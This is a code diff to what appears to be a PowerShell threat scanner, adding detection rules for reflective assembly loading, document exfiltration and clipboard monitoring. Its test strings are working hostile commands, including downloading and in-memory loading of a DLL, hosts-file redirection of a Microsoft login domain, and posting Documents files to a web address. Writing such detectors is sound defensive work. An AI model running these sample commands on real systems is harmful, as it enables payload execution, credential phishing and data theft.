@@ -106,7 +106,7 @@ var textRules = []*textRule{
 	tr("ps-reflective-load", "defense evasion", high, "loads a .NET assembly from downloaded or decoded bytes into memory (ATT&CK T1620)",
 		[]string{"assembly]::load", "assembly]::loadfile", ".load("},
 		`\[(system\.)?reflection\.assembly\]::load(file|from)?\s*\(`,
-		`downloaddata|frombase64string|invoke-webrequest|\biwr\b|net\.webclient|\.content\b|httpclient|getbytes\(|decompress|gzipstream|deflatestream|readallbytes`,
+		`downloaddata|frombase64string|invoke-webrequest|\biwr\b|net\.webclient|\.content\b|httpclient|getbytes\(|decompress|gzipstream|deflatestream|readallbytes|\.entrypoint\.invoke\(`,
 		[]string{"[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://192.0.2.69/x.dll'))", "[Reflection.Assembly]::Load([Convert]::FromBase64String($b))", "[System.Reflection.Assembly]::Load([IO.File]::ReadAllBytes('C:\\Users\\Public\\x.dll'))"},
 		[]string{"[System.Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')", "[Reflection.Assembly]::LoadFile('C:\\build\\App.dll')"}),
 	// A shellcode runner: memory made executable, or code written into
@@ -652,6 +652,18 @@ var textRules = []*textRule{
 		`(>>|>|add-content|set-content|out-file|ac\s)[^\n]*drivers\\etc\\hosts|drivers\\etc\\hosts[^\n]*(-value|-append)`,
 		[]string{"Add-Content C:\\Windows\\System32\\drivers\\etc\\hosts \"198.51.100.9 login.microsoftonline.com\""},
 		[]string{"Add-Content C:\\Windows\\System32\\drivers\\etc\\hosts \"127.0.0.1 dev.local\"", "Add-Content C:\\Windows\\System32\\drivers\\etc\\hosts \"10.0.0.5 build01.corp\""}),
+	tr("ps-post-documents", "exfiltration", high, "posts the contents of the user's documents to a web address (ATT&CK T1041, T1567)",
+		[]string{"-body", "-infile"},
+		`(invoke-restmethod|invoke-webrequest|\birm\b|\biwr\b)[^\n]*-method\s+['"]?(post|put)\b[^\n]*-(body|infile)\s+[('"]*\s*((get-content|gc|cat|type)\s+[^\n)]*)?(\$env:userprofile|\$home|~|[a-z]:\\users\\[^\\\s]+)\\(documents|desktop|downloads|onedrive)\b`,
+		``,
+		[]string{"Invoke-RestMethod -Uri https://example.net/c -Method Post -Body (Get-Content $env:USERPROFILE\\Documents\\*.txt -Raw)"},
+		[]string{"Invoke-RestMethod -Uri https://api.example.org/v1/upload -Method Post -InFile .\\report.json"}),
+	tr("clipboard-monitor", "collection", high, "reads the clipboard over and over in a loop and keeps what it finds (ATT&CK T1115)",
+		[]string{"get-clipboard", "clipboard]::gettext"},
+		`(while\s*\(\s*\$true\s*\)|for\s*\(\s*;\s*;\s*\))\s*\{[^}]*(get-clipboard|clipboard\]::gettext)[^}]*(>>|out-file|add-content|invoke-restmethod|invoke-webrequest)`,
+		``,
+		[]string{"while ($true) { Get-Clipboard >> $env:TEMP\\c.txt; Start-Sleep 5 }"},
+		[]string{"Get-Clipboard | Set-Content .\\snippet.txt"}),
 }
 
 // encodedRule flags PowerShell -EncodedCommand: its decoded script is judged
